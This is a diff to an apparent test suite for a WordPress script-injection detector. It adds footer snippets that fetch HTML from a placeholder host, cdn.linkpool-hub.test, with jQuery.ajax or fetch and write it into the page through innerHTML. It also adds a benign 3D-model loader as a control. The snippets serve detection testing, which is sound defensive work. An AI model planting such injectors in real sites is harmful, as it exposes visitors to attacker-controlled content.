@@ -54,6 +54,15 @@ DIVI = ('<div id="datax"></div><div id="info1"></div><script><!-- [et_pb_line_br
     ("XHR responseText by insertAdjacentHTML, wp_footer", {"footer": XHR_ADJACENT}, M),
     ("jQuery .load of another site's page, wp_footer", {"footer": JQUERY_LOAD}, M),
     ("jQuery $.get into .html(), wp_footer", {"footer": JQUERY_GET}, M),
+    ("jQuery $.ajax({url}) into .html(), wp_footer", {"footer": (
+        "<div id='ft'></div><script>jQuery.ajax({url:'https://cdn.linkpool-hub.test/l/23',"
+        "success:function(d){jQuery('#ft').html(d);}});</script>")}, M),
+    ("await fetch, then innerHTML = await r.text(), wp_footer", {"footer": (
+        "<div id='ft'></div><script>(async()=>{const r=await fetch('https://cdn.linkpool-hub."
+        "test/l/23');document.getElementById('ft').innerHTML=await r.text();})();</script>")}, M),
+    ("the address held in a name, wp_footer", {"footer": (
+        "<div id='ft'></div><script>var u='https://cdn.linkpool-hub.test/l/23';fetch(u).then("
+        "r=>r.text()).then(t=>{document.getElementById('ft').innerHTML=t});</script>")}, M),
     ("the injector hidden in base64, wp_footer", {"footer": HIDDEN}, H),
     ("from a bare IP address, wp_footer", {"footer": FROM_IP}, H),
     ("after </html>", {"after": FETCH_PAGE}, H),
@@ -103,6 +112,10 @@ TWINS = [
         "<script>fetch('https://api.tidetables.test/v2/harbour').then(r=>r.json()).then(d=>"
         "{document.getElementById('t').innerHTML=d.tides.map(x=>'<li>'+x.time+'</li>')"
         ".join('')});</script>")}),
+    ("a 3D model loader's load of another site's file, its scene shown", {"footer": (
+        "<script>new THREE.GLTFLoader().load('https://models.ferrylink.test/ferry.glb',"
+        "function(g){scene.add(g.scene);document.getElementById('m').innerHTML=label;});"
+        "</script>")}),
     ("an answer shown as text", {"footer": (
         "<script>fetch('https://api.tidetables.test/v2/now').then(r=>r.text()).then(t=>{"
         "document.getElementById('t').textContent=t});</script>")}),
